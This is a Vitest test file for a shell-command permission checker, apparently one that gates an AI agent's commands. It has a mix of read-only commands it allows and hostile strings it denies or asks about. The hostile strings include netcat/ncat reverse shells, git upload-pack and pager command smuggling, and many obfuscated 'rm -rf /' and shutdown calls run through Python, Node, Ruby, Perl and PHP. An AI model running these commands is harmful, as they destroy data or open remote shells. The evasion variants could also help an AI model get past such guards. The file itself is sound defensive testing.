import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type CommandWorkspace, createCommandWorkspace } from "../../../support/command-workspace.ts";

let workspace: CommandWorkspace;
beforeAll(async () => {
  workspace = await createCommandWorkspace({ "a.pcap": "x" });
});
afterAll(() => workspace.dispose());

const judged = (command: string): string => {
  const { verdict, tier } = workspace.judge(command);
  return `${verdict} ${tier}`;
};

describe("a short flag means what it means to its own subcommand or program", () => {
  it.each([
    ...[
      "git status -u",
      "git status -uno",
      "git status -unormal",
      "git status -uall",
      "git status -sbu",
      "git status -u -s",
      "git status -su",
    ],
    ...["git diff -u", "git diff -u HEAD~1", "git log -u -1", "git show -u", "git log -pu", "git diff --stat -u"],
    ...[
      "ps aux",
      "ps -aux",
      "ps ux",
      "ps u",
      "ps auxf",
      "ps axf",
      "ps -ef",
      "ps -eo pid,cmd",
      "ps aux --sort -rss",
      "ps -u root",
      "ps auxwww",
    ],
    ...[
      "lsof -i",
      "lsof -i :3000",
      "lsof -i tcp:3000",
      "lsof -iTCP",
      "lsof -nP -iTCP -sTCP:LISTEN",
      "lsof -ti:3000",
      "lsof -iUDP",
      "lsof -i UDP:53",
      "lsof -t -i :80",
    ],
    ...["lsof -p 1", "lsof -c node", "lsof -F pn", "lsof -u root", "lsof -U", "lsof"],
    ...[
      "ss -tulpn",
      "ss -ltnp",
      "ss -H -ltn",
      "ss --listening --tcp",
      "netstat -tulnp",
      "netstat -an",
      "netstat -rn",
      "pgrep -fl node",
      "pgrep -u root",
    ],
  ])("%s only reads", (command) => {
    expect(judged(command)).toBe("allow T2");
    // The soul's rule about the machine is for what changes it.
    expect(workspace.judge(command).tags).not.toContain("system");
  });

  it.each([
    ["git push -u origin main", ["git.push"]],
    ["git push -u", ["git.push"]],
    ["git push --set-upstream origin main", ["git.push"]],
    ["git push -uf origin main", ["git.push-force"]],
    ["tshark -Y http", ["capture"]],
    ["tshark -Y 'http.request' -T fields -e ip.src", ["capture"]],
    ["tshark -r a.pcap -Y dns", ["capture"]],
    ["tshark -c 10", ["capture"]],
    ["tcpdump -c 10 -i any", ["capture"]],
    ["tcpdump -e -n", ["capture"]],
    ["nmap -e eth0 x", ["capture"]],
    ["iperf3 -c x", ["capture"]],
    ["iperf -c x -e", ["capture"]],
    ["ngrep -c 80 x", ["capture"]],
  ])("%s asks for what it does, and for nothing else", (command, rules) => {
    const judgment = workspace.judge(command);
    expect(judgment.verdict).toBe("ask");
    for (const rule of rules) expect(judgment.rules.map(({ id }) => id)).toContain(`command.${rule}`);
    expect(judgment.rules.map(({ id }) => id)).not.toContain("command.git.runs");
    expect(judgment.tags).not.toContain("execute");
  });

  it.each([
    "git add -u",
    "git add -u .",
    "git stash -u",
    "git stash push -u",
    "git commit -u -m x",
    "git commit -uno -m x",
    "git fetch -u origin",
    "git branch -u origin/main",
  ])("%s runs no other program", (command) => expect(workspace.judge(command).rules.map(({ id }) => id)).not.toContain("command.git.runs"));

  it.each([
    ...[
      "git clone -u sh a b",
      "git clone -ush a b",
      "git clone --upload-pack=sh a",
      "git clone --upload sh a",
      "git fetch --upload-pack=sh origin",
    ],
    ...[
      "git grep -Osh foo",
      "git grep -nOsh foo",
      "git grep -O foo",
      "git grep --open-files-in-pager=sh foo",
      "git push --receive-pack=sh origin",
    ],
    ...[
      "git push --set-upstream --receive-pack=sh origin main",
      "git push -uno --receive-pack=sh origin",
      "git status --untracked-files --git-dir=x",
    ],
    ...[
      "git add --update --work-tree=/x .",
      "git --exec-path=/x status",
      "git -c core.pager=sh log",
      "git log --ext-diff",
      "git diff --ext-diff -u",
    ],
    ...[
      "nc -e /bin/sh x 1",
      "ncat -c 'sh -i' x 1",
      "ncat --exec /bin/sh x 1",
      "tcpdump -i any -z sh -w a",
      "tshark -X lua_script:a.lua",
      "nmap --script x y",
    ],
    ...["lsof -Di", "lsof -i -Di", "lsof -ni -kx", "ps eww", "ps auxe", "ss -K dst x", "ss -F a", "ss -Da"],
  ])("%s still asks or is denied", (command) => {
    expect(judged(command)).not.toBe("allow T2");
  });
});

describe("words inside quoted code", () => {
  it.each([
    `python3 -c "print('Wall clock')"`,
    `python3 -c "print('wall time: 5 s')"`,
    `python3 -c "print('Reboot required')"`,
    `python3 -c "print('reboot now')"`,
    `python3 -c "print('Halt on error')"`,
    `python3 -c "print('halt and catch fire')"`,
    `python3 -c "print('Shutdown complete')"`,
    `python3 -c "print('shutdown -h now')"`,
    `python3 -c "print('init 0')"`,
    `python3 -c "print('init project', 'poweroff x')"`,
    `python3 -c "print('mkfs done')"`,
    `python3 -c "print('fdisk output:', 5)"`,
    `python3 -c "print('kill 1 process')"`,
    `python3 -c "print('dd if=/dev/zero of=/dev/sda')"`,
    `python3 -c "print('rm -rf / is a bad idea')"`,
    `python3 -c "import time; print('Wall clock', time.time())"`,
    `python3 -c "import json; print(json.dumps(['halt x']))"`,
    `python3 -c "for i in range(3): print('halt now', i)"`,
    `python3 -c "x = 'reboot now'; print(x.upper())"`,
    `python3 -c "print('wall clock\\n')"`,
    `python3 -c "print('a | wall b')"`,
    `python3 -c "print('format c: done', sep='')"`,
    `node -e "console.log('halt now')"`,
    `node -e "console.log('Wall clock', Date.now())"`,
    `node -e "console.error('reboot needed')"`,
    `node -e "console.log(JSON.stringify({ a: 'shutdown now' }))"`,
    `node -p "'wall clock'.length"`,
    `ruby -e "puts 'halt now'"`,
    `perl -e "print 'reboot now'"`,
    `php -r "echo 'poweroff now';"`,
  ])("%s is inline code and no switch", (command) => {
    const judgment = workspace.judge(command);
    expect(`${judgment.verdict} ${judgment.tier}`).toBe("ask T3");
    expect(judgment.tags).toContain("execute");
  });

  it.each([
    `python3 -c "import os; os.system('reboot now')"`,
    `python3 -c "import os; print('x'); os.system('rm -rf /')"`,
    `python3 -c "import subprocess; subprocess.run('shutdown -h now', shell=True)"`,
    `python3 -c "__import__('os').system('rm -rf /')"`,
    `python3 -c "print(__builtins__.exec('halt now'))"`,
    `python3 -c "exec=exec; print(list(map(exec, ['rm -rf /'])))"`,
    `python3 -c "from os import system as s; s('rm -rf /')"`,
    `python3 -c "import platform; platform.os.system('rm -rf /')"`,
    `python3 -c "import sys; sys.modules['os'].system('rm -rf /')"`,
    `python3 -c "print(open('x').read(), 'rm -rf /')"`,
    `python3 -c "print(eval('rm -rf /'))"`,
    `node -e 'x("rm -rf /")'`,
    `python3 -c "from os import system as s; [s(c) for c in ['rm -rf /']]"`,
    `node -e "require('child_process').execSync('rm -rf /')"`,
    `node -e "process.mainModule.require('child_process').exec('reboot now')"`,
    `node -e "console.log.constructor('rm -rf /')()"`,
    `node -e "import('child_process').then((c) => c.exec('rm -rf /'))"`,
    `ruby -e "system 'rm -rf /'"`,
    `ruby -e "puts IO.popen('rm -rf /')"`,
    `ruby -e 'puts %x(rm -rf /); puts "rm -rf /"'`,
    `perl -e "exec 'rm -rf /'"`,
    `perl -e "print system('rm -rf /')"`,
    `php -r "print(shell_exec('rm -rf /'));"`,
  ])("%s is still denied", (command) => {
    expect(workspace.judge(command).verdict).toBe("deny");
  });

  it.each([`python3 -c "print('.env')"`, `node -e "console.log('.env')"`])("%s still names a secret file", (command) => {
    expect(workspace.judge(command).verdict).toBe("deny");
  });
});
